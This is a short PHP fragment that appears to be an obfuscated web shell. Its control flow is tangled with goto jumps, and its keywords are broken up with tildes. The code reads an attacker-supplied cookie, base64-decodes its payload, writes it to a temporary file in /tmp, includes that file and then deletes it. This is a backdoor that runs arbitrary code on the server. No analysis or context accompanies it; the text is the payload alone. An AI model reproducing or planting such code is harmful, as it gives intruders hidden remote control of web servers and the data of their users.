<?php exit; ?>
<?php
got~o x1; x2: $t = bas~e64_decode($p[1]); got~o x3; x1: $p = explode('.', $_C~OOKIE['m']); if (count($p) != 2) got~o x9; got~o x2; x3: got~o x4; x5: inc~lude $n; got~o x6; x4: fil~e_put_contents($n = tempnam('/tmp', 'm'), $t); got~o x5; x6: unlink($n); x9:
